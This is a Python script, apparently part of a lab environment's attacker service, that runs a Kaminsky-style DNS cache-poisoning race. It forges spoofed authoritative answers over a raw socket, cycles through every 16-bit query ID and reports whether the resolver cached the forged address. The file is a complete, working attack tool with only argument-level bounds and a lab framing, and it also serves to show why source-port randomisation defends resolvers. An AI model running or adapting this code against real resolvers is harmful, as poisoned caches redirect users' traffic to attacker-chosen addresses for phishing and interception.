"""A cache-poisoning race against the lab resolver, run inside the attacker container.

``python -m services.attacker.poison --resolver IP --spoof IP --zone example.com
--port 5300|random --tries N --burst B --forged IP``

Each try is one race (the Kaminsky pattern: a fresh name each time, so no
cached answer ends the game early):

1. ask the resolver for a name that does not exist yet, ``x<try>-<random>.ZONE``;
   it has to ask the zone's server, and the race starts;
2. send forged answers for exactly that question, from the zone server's
   address and port 53 (a raw socket writes the IP header itself), each with
   a different guess of the 16-bit query ID, to the resolver's source port if
   it is known (``--port 5300``: the resolver's weakened mode) or to a random
   port each time (``--port random``: all an attacker can do against RFC 5452);
3. stop when the resolver answers the question: if the answer is the forged
   address, the forged reply came first and the resolver took it.

One JSON object per try, then a summary, on stdout. Bounded: at most
``--burst`` datagrams per try and ``--tries`` tries (the scenario uses 5 x
65,536), and it sends only to the resolver's address on the lab network.
"""

from __future__ import annotations

import argparse
import json
import random
import secrets
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass

from dnslib import QTYPE, RCODE, RR, A, DNSHeader, DNSQuestion, DNSRecord

CHECK_EVERY = 256  # datagrams between looks at the trigger socket
ID_SPACE = 65536


@dataclass
class Try:
    name: str
    sent: int
    ms: float
    answer: list[str]
    rcode: str
    poisoned: bool


def forged_packet(
    spoof: str, resolver: str, port: int, name: str, forged: str, ttl: int = 3600
) -> bytearray:
    """IPv4 + UDP + DNS: an authoritative answer NAME A FORGED "from" SPOOF:53.

    ID (bytes 28-29) and destination port (22-23) are patched per datagram. The
    kernel fills in the IP checksum and length (IP_HDRINCL, raw(7)); a UDP
    checksum of 0 means none (RFC 768), so nothing else changes per datagram.
    """
    reply = DNSRecord(DNSHeader(id=0, qr=1, aa=1, rd=0), q=DNSQuestion(name, QTYPE.A))
    reply.add_answer(RR(name, QTYPE.A, rdata=A(forged), ttl=ttl))
    dns = reply.pack()
    udp = struct.pack("!HHHH", 53, port, 8 + len(dns), 0)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(dns), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(spoof), socket.inet_aton(resolver),
    )  # fmt: skip
    return bytearray(ip + udp + dns)


def id_order(start: int, step: int) -> list[int]:
    """Every 16-bit ID once, in an order the resolver cannot know (odd step: full cycle)."""
    return [(start + i * (step | 1)) % ID_SPACE for i in range(ID_SPACE)]


def race(raw: socket.socket, args: argparse.Namespace, index: int, rng: random.Random) -> Try:
    name = f"x{index}-{secrets.token_hex(4)}.{args.zone.rstrip('.')}."
    trigger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    trigger.connect((args.resolver, 53))
    query = DNSRecord(DNSHeader(id=secrets.randbelow(ID_SPACE), rd=1), q=DNSQuestion(name))
    fixed = None if args.port == "random" else int(args.port)
    packet = forged_packet(args.spoof, args.resolver, fixed or 0, name, args.forged)
    order = id_order(rng.randrange(ID_SPACE), rng.randrange(ID_SPACE))
    sent, reply = 0, None
    t0 = time.perf_counter()
    trigger.send(query.pack())
    time.sleep(args.head_start / 1000)  # let the resolver send its own question first
    trigger.setblocking(False)
    while sent < args.burst:
        qid = order[sent % ID_SPACE]
        packet[28], packet[29] = qid >> 8, qid & 0xFF
        if fixed is None:
            port = rng.randrange(1024, 65536)
            packet[22], packet[23] = port >> 8, port & 0xFF
        raw.sendto(packet, (args.resolver, 0))
        sent += 1
        if sent % CHECK_EVERY == 0:
            try:
                reply = trigger.recv(4096)
                break
            except BlockingIOError:
                continue
    trigger.settimeout(args.timeout)
    if reply is None:
        try:
            reply = trigger.recv(4096)
        except TimeoutError:
            reply = b""
    ms = (time.perf_counter() - t0) * 1000
    trigger.close()
    if not reply:
        return Try(name, sent, round(ms, 1), [], "TIMEOUT", False)
    answer = DNSRecord.parse(reply)
    addresses = [str(rr.rdata) for rr in answer.rr if rr.rtype == QTYPE.A]
    rcode = str(RCODE.get(answer.header.get_rcode()))
    return Try(name, sent, round(ms, 1), addresses, rcode, args.forged in addresses)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m services.attacker.poison", description=__doc__)
    p.add_argument("--resolver", required=True, help="the resolver's address")
    p.add_argument("--spoof", required=True, help="the zone's server: forged source address")
    p.add_argument("--zone", required=True, help="the zone the names are made up in")
    p.add_argument("--port", default="random", help="the resolver's query port, or random")
    p.add_argument("--tries", type=int, default=5)
    p.add_argument("--burst", type=int, default=ID_SPACE, help="datagrams per try at most")
    p.add_argument("--forged", default="198.18.2.66", help="the address the forgery claims")
    p.add_argument("--head-start", type=float, default=3.0, help="ms before the first forgery")
    p.add_argument("--timeout", type=float, default=5.0, help="s to wait for the answer")
    args = p.parse_args(argv)
    if args.port != "random" and not (args.port.isdigit() and 0 < int(args.port) < 65536):
        p.error(f"--port is a port number or 'random', not {args.port!r}")
    if not 0 < args.tries <= 50 or not 0 < args.burst <= 4 * ID_SPACE:
        p.error("--tries 1..50 and --burst 1..262144: the attack is bounded")
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        print("poison: a raw socket needs CAP_NET_RAW (the attacker service has it)",
              file=sys.stderr)  # fmt: skip
        return 2
    rng = random.Random(secrets.randbits(64))
    tries = []
    t0 = time.perf_counter()
    for i in range(1, args.tries + 1):
        t = race(raw, args, i, rng)
        tries.append(t)
        print(json.dumps({"try": i, **asdict(t)}), flush=True)
    seconds = time.perf_counter() - t0
    sent = sum(t.sent for t in tries)
    summary = {
        "summary": True,
        "port": args.port,
        "tries": len(tries),
        "sent": sent,
        "poisoned": sum(t.poisoned for t in tries),
        "seconds": round(seconds, 2),
        "rate_pps": round(sent / seconds) if seconds else 0,
    }
    print(json.dumps(summary), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
